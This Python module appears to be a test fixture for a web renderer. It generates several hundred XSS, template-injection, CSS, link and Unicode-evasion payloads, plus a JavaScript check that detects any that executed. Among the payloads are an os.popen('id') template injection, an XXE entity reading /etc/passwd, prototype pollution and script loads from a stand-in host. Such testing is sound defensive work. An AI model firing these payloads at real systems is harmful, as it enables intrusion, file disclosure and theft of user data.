"""Texts that would run if they were ever taken for markup, style, a link, a template or code: over 400 of them."""

from __future__ import annotations

__all__ = ["FOREIGN", "PAYLOADS", "batches"]

_RUN = "window.hacked=1"
_EVENTS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "ontoggle"),
    "onpointerdown",
    *("onwheel", "onscroll", "oninput", "onchange", "onbeforetoggle", "oncontentvisibilityautostatechange"),
)  # fmt: skip
_ELEMENTS = (
    *("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x"),
    *("marquee", "object data=x", "a href=x tabindex=1 autofocus", "style", "math", "div popover"),
    *("select autofocus", "textarea autofocus"),
)  # fmt: skip
_LEAVE = (
    "</script>",
    "\\",
    "/*",
    "</style>",
    "</textarea>",
    "</title>",
    "</noscript>",
    "</pre>",
    "-->",
    "]]>",
    '">',
    "'>",
    "`>",
    "",
)
_WHOLE = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script/x>{run}</script>",
    "<script src=https://e.invalid/x.js></script>",
    "<<script>{run}//<</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x>",
    "<math><mi xlink:href='javascript:{run}'>x</mi></math>",
    "<a href='javascript:{run}'>x</a>",
    "<a href='jAvAsCrIpT&colon;{run}'>x</a>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src='data:text/html,<script>parent.{run}</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=https://e.invalid/'>",
    "<link rel=stylesheet href=https://e.invalid/x.css>",
    "<base href=https://e.invalid/>",
    "<form action=https://e.invalid/><button>x",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src=https://e.invalid/x>",
    "<style>@import 'https://e.invalid/x.css';</style>",
    "<div style='background:url(https://e.invalid/x)'>x</div>",
    "<img src=https://e.invalid/x.png>",
    "<img srcset='https://e.invalid/x.png 1x'>",
    "<video poster=https://e.invalid/x.png></video>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "{{{{constructor.constructor('{run}')()}}}}",
    "{{{{7*7}}}}{{% raw %}}",
    "${{{run}}}",
    "`${{{run}}}`",
    "'-({run})-'",
    '";{run}//',
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "#sample=<img src=x onerror={run}>",
    "\u2028{run}\u2029",
    "\u202e<script>{run}</script>\u202c",
    "\x00<script>{run}</script>",
    "\x1e\x1f\x1d<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "\ud800<img src=x onerror={run}>",
    "__proto__",
    "constructor",
    '{{"__proto__":{{"hacked":1}}}}',
    "$&$`$'",
)
# Markup that parsers rearrange, so that what one takes for text another takes for an element.
_MUTATION = (
    "<svg></p><style><a id='</style><img src=x onerror={run}>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={run}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<noscript><style></noscript><img src=x onerror={run}>",
    "<svg><desc><noscript></desc><script>{run}</script></svg>",
    "<math><annotation-xml encoding='text/html'><script>{run}</script></annotation-xml></math>",
    "<svg><foreignObject><iframe onload={run}></foreignObject></svg>",
    "<table><tr><td><svg><title><a id='</title><img src=x onerror={run}>'></table>",
    "<select><template><script>{run}</script></template></select>",
    "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<plaintext><script>{run}</script>",
    "<listing>&lt;img src=x onerror={run}&gt;</listing>",
    "<p is=x><template shadowrootmode=open><script>{run}</script></template></p>",
    "<img alt='`><script>{run}</script>' src=`x`>",
    "<div id='x'><!--[if gte IE 4]><script>{run}</script><![endif]-->",
)
_SVG = (
    "<svg><set attributeName=onmouseover to={run}>",
    "<svg><animate attributeName=href values='javascript:{run}' /><a id=x><rect width=9 height=9 /></a></svg>",
    "<svg><animateTransform onbegin={run} attributeName=transform dur=1s>",
    "<svg><image href=x onerror={run}></svg>",
    "<svg><a xlink:href='javascript:{run}'><text y=9>x</text></a></svg>",
    "<svg><style>*{{background:url(https://e.invalid/svg)}}</style></svg>",
    "<svg><feImage href=https://e.invalid/f.svg></svg>",
    "<svg><script href=https://e.invalid/s.js /></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><svg>&e;</svg>",
)
_MATHML = (
    "<math href='javascript:{run}'>x</math>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:{run}'>x</maction></math>",
    "<math><mtext><img src=x onerror={run}></mtext></math>",
)
_LINKS = (
    "java\tscript:{run}",
    "java\nscript:{run}",
    "\x01javascript:{run}",
    " \u00a0javascript:{run}",
    "JaVaScRiPt&#58;{run}",
    "javascript&colon;{run}",
    "javascript://%0a{run}",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "blob:https://e.invalid/x",
    "//e.invalid/x",
    "\\\\e.invalid\\x",
    "[x](javascript:{run})",
    "![x](https://e.invalid/x.png)",
    "<javascript:{run}>",
    "[x]: javascript:{run}",
)
_TEMPLATES = (
    "{{{{ self.__init__.__globals__ }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{% for x in range(10**9) %}}x{{% endfor %}}",
    "{{% import os %}}{{{{ os.popen('id').read() }}}}",
    "{{# comment #}}",
    "#{{{run}}}",
    "<%= {run} %>",
    "@({run})",
    "[[${{{run}}}]]",
    "{{{{this.constructor.constructor('{run}')()}}}}",
    "{{0.__class__}} %(n)s %s {{n}}",
    "datum['x']; {run}",
)
_STYLES = (
    "</style><style>@import url(https://e.invalid/x.css);</style>",
    "x;background:url(https://e.invalid/css)",
    "x}}*{{background:url(https://e.invalid/css)}}",
    "expression({run})",
    "-moz-binding:url(https://e.invalid/x.xml#x)",
    "\\3c script\\3e {run}",
    "url('javascript:{run}')",
    "var(--x);}}@font-face{{font-family:x;src:url(https://e.invalid/f)}}",
)
_ISLANDS = (
    '</script><script>{run}</script><script type="application/json">',
    "<!--<script>",
    "<!--<script>{run}//--></script>",
    '"}}]</script><img src=x onerror={run}>',
    "</SCRIPT\t><img src=x onerror={run}>",
    "</script/x><img src=x onerror={run}>",
    "\\u003c/script\\u003e<img src=x onerror={run}>",
    "\\</script>{run}",
    "]]></script><svg onload={run}>",
)
_CHARACTERS = (
    "\u2066<script>{run}</script>\u2069",
    "\u202d<img src=x onerror={run}>\u202c",
    "\x00\x00<script>{run}</script>",
    "<\x00script>{run}</script>",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "\u02bascript onload={run}",
    "\x1b[31m<script>{run}</script>\x1b[0m",
    "\x1b]8;;https://e.invalid/\x07x\x1b]8;;\x07",
    "\x9b31m\x90q",
    "\x08\x08\x7f<script>{run}</script>",
    "\ufffe\uffff<script>{run}</script>",
    "\udc00\ud800<script>{run}</script>",
    "<script\u2028>{run}</script\u2029>",
    "\r\n\r\n<script>{run}</script>",
    "\u200b<script>{run}</script>\u200d",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
)
_KINDS = (_WHOLE, _MUTATION, _SVG, _MATHML, _LINKS, _TEMPLATES, _STYLES, _ISLANDS, _CHARACTERS)
# A dozen ways out of what a text may stand in, by sixteen elements and an event each; and the whole ones.
_ALL: tuple[str, ...] = (
    *(
        f"{leave}<{element} {_EVENTS[(i + k) % len(_EVENTS)]}={_RUN}>"
        for i, leave in enumerate(_LEAVE)
        for k, element in enumerate(_ELEMENTS)
    ),
    *(f"<img src=x {event}={_RUN}>" for event in _EVENTS),
    *(f'" {event}="{_RUN}" x="' for event in _EVENTS),
    *(f"' {event}='{_RUN}' x='" for event in _EVENTS),
    *(text.format(run=_RUN) for kind in _KINDS for text in kind),
)
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(_ALL))


def batches(size: int) -> list[str]:
    """All payloads as texts that hold `size` of them, each in a line: one for each time that a page is looked at."""
    return ["\n".join(PAYLOADS[at : at + size]) for at in range(0, len(PAYLOADS), size)]


# What a page holds that only markup in its data can have put there; to be evaluated in the page.
FOREIGN = """() => {
  const found = window.hacked === undefined && ({}).hacked === undefined ? [] : ['it ran'];
  const kinds = 'iframe, frame, object, embed, base, math, marquee, audio, video, animate, set, foreignObject, '
    + 'form[action^=http]';
  for (const node of document.querySelectorAll(kinds)) found.push(node.localName);
  for (const node of document.querySelectorAll('script')) {
    const isData = node.type === 'application/json' || node.type.startsWith('application/x-');
    if (!isData && /hacked|e\\.invalid/.test(node.text + node.src)) found.push('script');
  }
  for (const node of document.querySelectorAll('style, link, meta[http-equiv=refresh], img')) {
    if (/hacked|e\\.invalid/.test(node.outerHTML)) found.push(node.localName);
  }
  for (const node of document.querySelectorAll('*')) {
    for (const { name, value } of node.attributes) {
      if (/^on/i.test(name) || name === 'srcdoc') found.push(`${node.localName} ${name}`);
      if (/^(href|src|action|formaction|xlink:href|srcset|poster|data)$/i.test(name)
          && /^[\\s\\x00-\\x20]*(javascript|vbscript|data:text|blob|https?:\\/\\/e\\.|\\/\\/e\\.)/i.test(value)) {
        found.push(`${node.localName} ${name}=${value.slice(0, 60)}`);
      }
    }
  }
  return found;
}"""
